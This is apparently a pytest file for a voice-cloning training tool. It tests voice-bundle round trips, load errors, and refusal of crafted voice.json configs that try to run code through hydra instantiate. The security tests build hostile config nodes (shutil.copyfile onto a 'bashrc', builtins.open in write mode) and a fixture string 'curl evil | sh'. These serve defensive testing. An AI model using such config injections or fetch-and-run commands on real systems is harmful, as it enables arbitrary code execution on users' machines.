"""Voice bundle write → load round trip and its error messages."""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np
import pytest
import soundfile as sf

from gpt_sovits_train.clone.bundle import load_bundle, write_bundle
from gpt_sovits_train.interchange.safe_config import UnsafeConfigError

GPT_NET = "gpt_sovits_train.models.gpt.model.Text2SemanticModel"
SOVITS_NET = "gpt_sovits_train.models.sovits.synthesizer.SoVITSGenerator"
HUBERT = "gpt_sovits_train.features.ssl.HubertExtractor"


def make_bundle(tmp_path: Path, gpt_net: dict | None = None) -> Path:
    (tmp_path / "g.ckpt").write_bytes(b"gpt-weights")
    (tmp_path / "s.ckpt").write_bytes(b"sovits-weights")
    sf.write(tmp_path / "ref.wav", 0.1 * np.ones(32000 * 4, dtype=np.float32), 32000)
    return write_bundle(
        tmp_path / "voice", "alice", tmp_path / "g.ckpt", tmp_path / "s.ckpt", tmp_path / "ref.wav",
        "hello there", "en", ["en"], {"ssl": "TencentGameMate/chinese-hubert-base"}, "voice_name: alice\n",
        {"data": {"kept_minutes": 1.0}, "losses": {"gpt": 2.5}},
        networks={"gpt": gpt_net or {"_target_": GPT_NET, "layers": 2}, "sovits": {"_target_": SOVITS_NET}},
        features={"ssl": {"_target_": HUBERT, "model": "TencentGameMate/chinese-hubert-base"}},
    )


def test_bundle_round_trip(tmp_path: Path) -> None:
    root = make_bundle(tmp_path)
    bundle = load_bundle(root / "voice.json")
    assert bundle.name == "alice" and bundle.reference_text == "hello there"
    assert bundle.gpt_checkpoint.read_bytes() == b"gpt-weights"
    assert bundle.sovits_checkpoint.read_bytes() == b"sovits-weights"
    assert sf.info(bundle.reference_audio).duration == pytest.approx(4.0)
    assert bundle.feature_models["ssl"] == "TencentGameMate/chinese-hubert-base"
    assert bundle.extra["training_summary"]["losses"]["gpt"] == 2.5
    synth = bundle.synthesis_config(device="cpu")
    assert synth["gpt"] == {"checkpoint": str(bundle.gpt_checkpoint), "net": {"_target_": GPT_NET, "layers": 2},
                            "backend": "network"}
    assert synth["sovits"]["checkpoint"] == str(bundle.sovits_checkpoint)
    assert synth["features"]["ssl"]["_target_"] == HUBERT
    assert synth["reference"] == {"audio": str(bundle.reference_audio), "text": "hello there", "language": "en"}
    with_heads = load_bundle(make_bundle(tmp_path, gpt_net={"_target_": GPT_NET, "num_head": 16}))
    assert with_heads.synthesis_config()["gpt"]["backend"] == "cached"
    assert with_heads.synthesis_config()["gpt"]["heads"] == 16
    card = (root / "README.md").read_text()
    assert "alice" in card and "consent" in card and "1.0 min" in card


def test_bundle_errors(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError, match="gst-clone"):
        load_bundle(tmp_path)
    root = make_bundle(tmp_path)
    (root / "sovits.ckpt").unlink()
    with pytest.raises(FileNotFoundError, match=r"sovits\.ckpt"):
        load_bundle(root)
    index = json.loads((root / "voice.json").read_text())
    (root / "voice.json").write_text(json.dumps(index | {"format": "other/9"}))
    with pytest.raises(ValueError, match="unsupported bundle format"):
        load_bundle(root)
    with pytest.raises(ValueError, match=r"\.list"):
        write_bundle(tmp_path / "v2", "x", tmp_path / "g.ckpt", tmp_path / "s.ckpt", tmp_path / "ref.wav", " ", "en",
                     ["en"], {}, "", {})


def _crafted_bundle(tmp_path: Path, where: str, node: dict) -> Path:
    """A downloaded bundle whose voice.json carries ``node`` at ``synthesis.<where>``."""
    root = make_bundle(tmp_path)
    index = json.loads((root / "voice.json").read_text())
    section, name = where.split(".")
    index["synthesis"][section][name] = node
    (root / "voice.json").write_text(json.dumps(index))
    return root


@pytest.mark.slow  # 48 s on 2 loaded cores (CLI subprocess or training run)
def test_bundle_network_config_cannot_run_code(tmp_path: Path) -> None:
    """voice.json's networks go to hydra.utils.instantiate: shutil.copyfile must be refused before it runs."""
    from gpt_sovits_train.inference.factory import build_synthesizer

    victim, source = tmp_path / "bashrc", tmp_path / "payload"
    victim.write_text("precious")
    source.write_text("curl evil | sh")
    root = _crafted_bundle(tmp_path, "networks.gpt",
                           {"_target_": "shutil.copyfile", "src": str(source), "dst": str(victim)})
    with pytest.raises(UnsafeConfigError, match=r"voice\.json.*networks\.gpt\._target_='shutil\.copyfile'"):
        build_synthesizer(load_bundle(root).synthesis_config())
    assert victim.read_text() == "precious"


def test_bundle_feature_config_cannot_run_code(tmp_path: Path) -> None:
    """voice.json's feature extractors too, also when the bad target is nested inside one of ours."""
    from hydra.utils import instantiate

    victim = tmp_path / "bashrc"
    victim.write_text("precious")
    node = {"_target_": "builtins.open", "file": str(victim), "mode": "w"}
    for index, crafted in enumerate((node, {"_target_": HUBERT, "model": [node]})):
        (tmp_path / str(index)).mkdir()
        root = _crafted_bundle(tmp_path / str(index), "features.ssl", crafted)
        with pytest.raises(UnsafeConfigError, match=r"features\.ssl.*builtins\.open"):
            instantiate(load_bundle(root).synthesis_config()["features"]["ssl"])  # what build_synthesizer does
        assert victim.read_text() == "precious"
